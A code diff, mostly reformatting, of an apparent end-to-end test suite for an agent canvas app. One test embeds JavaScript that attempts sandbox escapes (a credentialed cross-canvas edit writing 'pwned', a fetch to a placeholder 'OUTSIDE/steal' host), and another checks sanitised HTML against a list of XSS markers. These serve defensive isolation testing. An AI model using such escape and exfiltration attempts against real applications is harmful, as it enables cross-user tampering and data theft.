@@ -83,7 +83,7 @@ async def test_an_agent_presents_a_chart_and_a_form_and_continues_with_the_answe
     await page.get_by_role("button", name="Send to the agent").click()
     await page.locator('.msg-assistant[data-state="completed"]').wait_for(timeout=30000)
     assert "age 30, team support" in (await page.locator(".msg-assistant .text").last.text_content() or "")
-    await page.locator('.canvas-form .submitted').wait_for(timeout=15000)
+    await page.locator(".canvas-form .submitted").wait_for(timeout=15000)
     # The model received the person's answer as present_form's result.
     results = [m for m in llm_server.requests[2].body["messages"] if m["role"] == "tool"]
     form_result = json.loads(results[-1]["content"])
@@ -111,8 +111,10 @@ ESCAPES_JS = r"""
   attempt("open_window", function () { return String(window.open("/api/canvases")); });
   attempt("websocket", function () { return new WebSocket("ws://" + location.host + "/ws/chat").readyState; });
   var pending = [
-    fetch("/api/canvases").then(function (r) { return "ok:" + r.status; }, function (e) { return "blocked:" + e.name; }),
-    fetch("/api/canvases/TARGET/edits", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
+    fetch("/api/canvases").then(function (r) { return "ok:" + r.status; },
+      function (e) { return "blocked:" + e.name; }),
+    fetch("/api/canvases/TARGET/edits", { method: "POST", credentials: "include",
+      headers: { "Content-Type": "application/json" },
       body: JSON.stringify({ op: "append", content: { text: "pwned" } }) })
       .then(function (r) { return "ok:" + r.status; }, function (e) { return "blocked:" + e.name; }),
     fetch("OUTSIDE/steal").then(function () { return "ok"; }, function (e) { return "blocked:" + e.name; }),
@@ -184,8 +186,14 @@ async def _component_escapes(
             css="p { color: #123; }", js=ESCAPES_JS.replace("TARGET", target).replace("OUTSIDE", outside_url),
             user_id=author.id,
         )  # fmt: skip
-        stored = (await components.versions(session=s, component_id=(await components.get_component(session=s, ref="escape-kit")).id))[0]
-        await components.approve(session=s, ref="escape-kit", version=1, approver_id=approver.id, approve=True, reason="")
+        stored = (
+            await components.versions(
+                session=s, component_id=(await components.get_component(session=s, ref="escape-kit")).id
+            )
+        )[0]
+        await components.approve(
+            session=s, ref="escape-kit", version=1, approver_id=approver.id, approve=True, reason=""
+        )
     for gone in ("onerror", "javascript:", "<iframe", "<form", "<meta", "<base", "<script", "onclick", "style="):
         assert gone not in stored.html, gone
     with acting_as(settings, db, agent.id):
@@ -251,7 +259,7 @@ async def test_two_agents_edit_one_canvas_in_locked_mode_live(
         try:
             await call("update_canvas", canvas_id=canvas_id, op="merge", expected_version=2, content={"rows": []})
             raise AssertionError("an edit without the lock went through")
-        except Exception as refused:  # noqa: BLE001 - the Conflict is what we expect
+        except Exception as refused:  # the Conflict is what we expect
             assert getattr(refused, "code", "") == "CANVAS_LOCKED"
     with acting_as(settings, db, first.id):
         await call("update_canvas", canvas_id=canvas_id, op="unlock")
